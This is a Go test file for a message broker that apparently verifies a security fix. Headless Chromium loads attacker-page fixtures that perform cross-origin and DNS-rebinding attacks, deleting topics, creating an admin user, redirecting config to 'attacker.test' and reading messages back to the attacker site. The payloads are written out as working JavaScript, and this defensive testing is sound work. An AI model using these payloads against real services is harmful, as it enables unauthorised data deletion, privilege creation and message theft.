package attack

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/lockstepmq/lockstep/internal/test/testkit/env"
)

// chromium is a headless browser of this test: it has no profile, and leaves none.
type chromium struct {
	t    *testing.T
	path string
}

func browser(t *testing.T) chromium {
	t.Helper()
	if testing.Short() {
		t.Skip("starts broker processes; left out with -short")
	}
	path, err := exec.LookPath("chromium")
	if err != nil {
		env.Missing(t, "chromium", err)
	}
	return chromium{t, path}
}

// visit opens a page until done is closed. Names below .test are this machine.
func (c chromium) visit(url string, done <-chan struct{}) {
	c.t.Helper()
	profile, err := os.MkdirTemp("", "lockstep-chromium-")
	require.NoError(c.t, err)
	defer os.RemoveAll(profile)
	cmd := exec.Command(c.path, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
		"--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--user-data-dir="+profile, "--remote-debugging-port=0",
		"--host-resolver-rules=MAP *.test 127.0.0.1", url)
	cmd.Env = append(os.Environ(), "HOME="+profile)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true, Pdeathsig: syscall.SIGKILL}
	log, err := os.Create(filepath.Join(c.t.TempDir(), "chromium.log"))
	require.NoError(c.t, err)
	defer log.Close()
	cmd.Stdout, cmd.Stderr = log, log
	require.NoError(c.t, cmd.Start())
	defer func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) // its children, too
		_ = cmd.Wait()
	}()
	select {
	case <-done:
	case <-time.After(2 * limit):
		text, _ := os.ReadFile(log.Name())
		c.t.Fatalf("the browser does not finish the page; it says:\n%s", tail(string(text), 3<<10))
	}
}

// site is the attacker's web server. Its page reports by POST /report?NAME, and POST
// /finished at the end.
type site struct {
	*httptest.Server
	reports sync.Map // name → text
	done    chan struct{}
}

func newSite(t *testing.T, page string) *site {
	s := &site{done: make(chan struct{})}
	var once sync.Once
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = io.WriteString(w, page)
		case "/report":
			text, _ := io.ReadAll(r.Body)
			s.reports.Store(r.URL.RawQuery, string(text))
		case "/finished":
			once.Do(func() { close(s.done) })
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *site) reported(name string) string {
	text, _ := s.reports.Load(name)
	reported, _ := text.(string)
	return reported
}

func (s *site) port() int { return s.Listener.Addr().(*net.TCPAddr).Port }

// foreignPage attacks the servers at AT and reports each answer that it can read. The last
// request to each server is made when those before it are answered or have failed.
const foreignPage = `<!doctype html><title>a foreign page</title><body><script>
const servers = {broker: "AT_BROKER", naive: "AT_NAIVE"};
const report = (name, text) => fetch("/report?" + name, {method: "POST", body: String(text)});
async function attempt(name, f) { let r; try { r = await f(); } catch (e) { r = "failed: " + e; } await report(name, r); }
function form(action, method) { return new Promise(done => {
  const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); document.body.append(frame);
  const f = document.createElement("form"); f.action = action; f.method = method; f.target = frame.name; f.enctype = "text/plain";
  const i = document.createElement("input"); i.name = "a"; i.value = "b"; f.append(i); document.body.append(f);
  frame.onload = () => done("loaded"); f.submit(); setTimeout(() => done("waited"), 3000);
});}
function embed(tag, url) { return new Promise(done => {
  const e = document.createElement(tag); e.onload = () => done("loaded"); e.onerror = () => done("refused");
  if (tag === "object") e.data = url; else e.src = url; document.body.append(e); setTimeout(() => done("waited"), 3000);
});}
const read = (url, options) => fetch(url, options).then(r => r.text().then(t => r.type + " " + r.status + " " + t));
(async () => {
  for (const [who, at] of Object.entries(servers)) {
    await attempt(who + "-delete", () => read(at + "/topic/delete?topic=orders", {method: "POST", mode: "no-cors"}));
    await attempt(who + "-delete-credentials", () => read(at + "/topic/delete?topic=orders", {method: "POST", mode: "no-cors", credentials: "include"}));
    await attempt(who + "-form", () => form(at + "/topic/delete?topic=orders", "POST"));
    await attempt(who + "-form-pub", () => form(at + "/pub?topic=orders", "POST"));
    await attempt(who + "-beacon", async () => navigator.sendBeacon(at + "/pub?topic=orders", "from a foreign page"));
    await attempt(who + "-empty", () => read(at + "/topic/empty?topic=orders", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}}));
    await attempt(who + "-admin", () => read(at + "/v1/user/create?name=eve&admin=true", {method: "POST", mode: "no-cors"}));
    await attempt(who + "-config", () => read(at + "/config/nsqlookupd_tcp_addresses", {method: "PUT", body: '["attacker.test:1"]'}));
    await attempt(who + "-peek", () => read(at + "/v1/topic/peek?topic=orders", {mode: "cors"}));
    await attempt(who + "-script", () => embed("script", at + "/v1/topic/peek?topic=orders"));
    await attempt(who + "-image", () => embed("img", at + "/debug/pprof/heap"));
    await attempt(who + "-frame", () => embed("iframe", at + "/ui"));
    await attempt(who + "-object", () => embed("object", at + "/ui"));
  }
  await fetch("/finished", {method: "POST"});
})();
</script>`

// TestForeignPageInABrowser is finding 4, in Chromium: a page of another origin deletes,
// empties, publishes, configures and reads nothing, at a broker on which everybody else may
// do everything. A server without the checks receives the same requests.
func TestForeignPageInABrowser(t *testing.T) {
	t.Parallel()
	chromium := browser(t)
	b := start(t, options{open: true})
	require.Equal(t, 200, b.ask("", "POST", "/topic/create?topic=orders", "").status)
	require.Equal(t, 200, b.ask("", "POST", "/pub?topic=orders", body).status)
	var received sync.Map
	naive := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { received.Store(r.Method+" "+r.URL.Path, true) }))
	defer naive.Close()
	page := strings.NewReplacer("AT_BROKER", "http://"+b.address(httpPort), "AT_NAIVE", naive.URL).Replace(foreignPage)
	attacker := newSite(t, page)
	chromium.visit(fmt.Sprintf("http://attacker.test:%d/", attacker.port()), attacker.done)

	for _, request := range []string{"POST /topic/delete", "POST /pub", "POST /topic/empty", "POST /v1/user/create", "GET /v1/topic/peek", "GET /ui"} {
		_, ok := received.Load(request)
		require.True(t, ok, "the browser sends %s to a server without the checks", request)
	}
	attacker.reports.Range(func(name, text any) bool {
		require.NotContains(t, text, body, name)
		t.Logf("%s: %s", name, text)
		return true
	})
	require.NotEmpty(t, attacker.reported("broker-object"), "the page was run to its end")
	peeked := b.ask("", "GET", "/v1/topic/peek?topic=orders", "")
	require.Equal(t, 200, peeked.status, "the topic is there, and there is no user: %s", peeked.body)
	require.Contains(t, peeked.body, body)
	require.Equal(t, 1, strings.Count(peeked.body, `"body"`), "one message: %s", peeked.body)
	require.Equal(t, "[]", b.ask("", "GET", "/config/nsqlookupd_tcp_addresses", "").body)
}

// reboundPage waits until its own name is that of the broker, and then asks as the same origin.
const reboundPage = `<!doctype html><title>a page whose name moves</title><body><script>
const report = (name, text) => fetch("AT_ATTACKER/report?" + name, {method: "POST", body: String(text), mode: "no-cors"});
(async () => {
  await fetch("AT_ATTACKER/report?loaded", {method: "POST", body: "yes", mode: "no-cors"});
  for (let i = 0; i < 200; i++) {
    const r = await fetch("/ping").then(r => r.text(), () => "");
    if (r.startsWith("OK")) break;
    await new Promise(done => setTimeout(done, 50));
  }
  for (const [name, url, method] of [["peek", "/v1/topic/peek?topic=orders", "GET"], ["stats", "/stats?format=json", "GET"], ["delete", "/topic/delete?topic=orders", "POST"],
    ["admin", "/v1/user/create?name=eve&admin=true", "POST"], ["pub", "/pub?topic=orders", "POST"], ["cluster", "/v1/cluster", "GET"], ["ui", "/v1/console/topics", "GET"]]) {
    const text = await fetch(url, {method}).then(r => r.text().then(t => r.status + " " + t), e => "failed: " + e);
    await report(name, text);
  }
  await fetch("AT_ATTACKER/finished", {method: "POST", mode: "no-cors"});
})();
</script>`

// TestReboundNameInABrowser is finding 4, in Chromium: a page whose host name leads to the
// broker after it was loaded (DNS rebinding) is of the same origin for the browser. The
// broker knows its own names, and answers nothing but the probes.
func TestReboundNameInABrowser(t *testing.T) {
	t.Parallel()
	chromium := browser(t)
	b := start(t, options{open: true})
	require.Equal(t, 200, b.ask("", "POST", "/topic/create?topic=orders", "").status)
	require.Equal(t, 200, b.ask("", "POST", "/pub?topic=orders", body).status)
	attacker := newSite(t, "")
	page := strings.ReplaceAll(reboundPage, "AT_ATTACKER", fmt.Sprintf("http://attacker.test:%d", attacker.port()))
	rebound := newRebound(t, page, b.address(httpPort))
	chromium.visit(fmt.Sprintf("http://rebound.test:%d/", rebound.port), attacker.done)

	require.Equal(t, "yes", attacker.reported("loaded"))
	require.Positive(t, rebound.passed.Load(), "the name led to the broker")
	for _, name := range []string{"peek", "stats", "delete", "admin", "pub", "cluster", "ui"} {
		text := attacker.reported(name)
		require.Contains(t, text, "HOST_NOT_ALLOWED", name)
		require.NotContains(t, text, body)
	}
	require.Contains(t, b.ask("", "GET", "/v1/topic/peek?topic=orders", "").body, body)
}

// rebound is a port whose first connection is the attacker's web server. All later ones lead
// to the broker, as after a change of the name's address.
type rebound struct {
	port   int
	passed atomic.Int32
}

func newRebound(t *testing.T, page, broker string) *rebound {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	r := &rebound{port: l.Addr().(*net.TCPAddr).Port}
	var served atomic.Bool
	var serving sync.WaitGroup
	var conns sync.Map
	serving.Go(func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			conns.Store(conn, true)
			serving.Go(func() {
				defer conn.Close()
				if served.Load() {
					r.passed.Add(1)
					passOn(conn, broker)
					return
				}
				buffer := make([]byte, 4<<10)
				if n, err := conn.Read(buffer); err != nil || n == 0 { // a connection that the browser opens ahead
					return
				}
				served.Store(true)
				_, _ = fmt.Fprintf(conn, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(page), page)
			})
		}
	})
	t.Cleanup(func() {
		_ = l.Close()
		conns.Range(func(conn, _ any) bool { _ = conn.(net.Conn).Close(); return true })
		serving.Wait()
	})
	return r
}

// passOn copies both directions until one ends.
func passOn(conn net.Conn, to string) {
	onward, err := net.Dial("tcp", to)
	if err != nil {
		return
	}
	done := make(chan struct{})
	go func() { // ends with either connection
		_, _ = io.Copy(onward, conn)
		_ = onward.Close()
		close(done)
	}()
	_, _ = io.Copy(conn, onward)
	_ = conn.Close()
	<-done
}
